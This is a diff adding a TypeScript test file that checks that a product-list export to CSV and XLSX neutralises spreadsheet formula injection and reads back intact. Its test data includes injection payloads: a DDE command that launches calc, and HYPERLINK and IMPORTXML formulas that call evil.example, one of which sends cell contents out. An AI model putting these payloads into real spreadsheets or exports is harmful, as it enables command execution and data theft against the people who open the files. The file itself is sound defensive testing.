@@ -1,0 +1,71 @@
+import { parse } from 'csv-parse/sync'
+import { strFromU8, unzipSync } from 'fflate'
+import { expect, it, vi } from 'vitest'
+import { openDoor } from '../../testing/open-door.ts'
+import { readList } from './read-list.ts'
+
+vi.setConfig({ testTimeout: 120_000 }) // many workbooks
+const { asPerson, given, owner } = await openDoor()
+
+const commands = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example","click")', '=1+1', '+1+1', '-1+1', '@SUM(1,1)', '=IMPORTXML(CONCAT("http://evil.example/?", A1), "//a")']
+const disguises = ['', ' ', '\t', '\r\n', '\u00a0', '"', ';', '']
+const fullWidth = ['＝1+1', '＋1+1', '－1+1', '＠SUM(1)', '=\tA1', '\t=1+1', '\r=1+1', '\n=1+1', '"=1+1"', ';=1+1', ' =1+1', '\u00a0=1+1']
+/** Thirty ways in which a name could become a formula. */
+const injections = [...new Set([...commands, ...fullWidth, ...disguises.flatMap((disguise) => [`${disguise}=2+5`, `${disguise}@A1`])])].slice(0, 30)
+
+/** A spreadsheet looks at the first thing that is no space. */
+const isLive = (cell: string) => /^[\s\u00a0]*[=+\-@＝＋－＠]/.test(cell) || /^[\t\r\n]/.test(cell)
+
+it('an exported list runs nothing in a spreadsheet, and reads back as what it was', async () => {
+  expect(injections).toHaveLength(30)
+  const supplier = await given.supplier()
+  const supplierId = supplier.companyId ?? ''
+  for (const [n, injection] of injections.entries()) {
+    const { id } = await given.product({ supplierId, articleCode: `=${n}+1`, name: injection, english: `@${injection}` })
+    await owner.query('update products set facts = $2 where id = $1', [id, JSON.stringify([{ name: `+${n}`, value: injection }])])
+  }
+  const { imports } = await asPerson(supplier)
+  const csv = Buffer.from((await imports.exportList({ format: 'csv', language: 'tr' })).base64, 'base64')
+  const cells: string[][] = parse(csv, { delimiter: ';', bom: true })
+  expect(cells).toHaveLength(31)
+  expect(cells.flat().filter(isLive)).toEqual([])
+
+  const xlsx = Buffer.from((await imports.exportList({ format: 'xlsx', language: 'tr' })).base64, 'base64')
+  const sheets = Object.entries(unzipSync(xlsx)).filter(([name]) => name.includes('worksheets/'))
+  expect(sheets.length).toBeGreaterThan(0)
+  for (const [, sheet] of sheets) expect(strFromU8(sheet)).not.toMatch(/<f[ >]/)
+
+  for (const file of [csv, xlsx]) {
+    const { rows } = await readList(file)
+    const names = new Map(rows.map(({ cells }) => [cells.articleCode, cells.name]))
+    expect(names).toEqual(new Map(injections.map((injection, n) => [`=${n}+1`, injection.trim()])))
+  }
+})
+
+it('the template is read as an empty list, in every language and format', async () => {
+  const { imports } = await asPerson(await given.supplier())
+  for (const language of ['en', 'so', 'tr', 'ar'] as const)
+    for (const format of ['csv', 'xlsx'] as const) {
+      const { base64 } = await imports.template({ format, language })
+      await expect(readList(Buffer.from(base64, 'base64'))).rejects.toMatchObject({ problem: 'empty' })
+    }
+})
+
+it('a list of one’s own products changes nothing when it is sent back', async () => {
+  const supplier = await given.supplier()
+  await given.product({ supplierId: supplier.companyId ?? '', articleCode: 'A' })
+  const { imports } = await asPerson(supplier)
+  for (const language of ['tr', 'en'] as const) {
+    const { base64, rows } = await imports.exportList({ format: 'csv', language })
+    expect(rows).toBe(1)
+    const [row] = (await readList(Buffer.from(base64, 'base64'))).rows
+    expect(row?.cells).toMatchObject({
+      articleCode: 'A',
+      name: language === 'tr' ? 'Pamuklu gömlek' : 'Cotton shirt',
+      price: '12.50',
+      category: 'fashion',
+      country: 'TR',
+      city: 'Kayseri',
+    })
+  }
+})
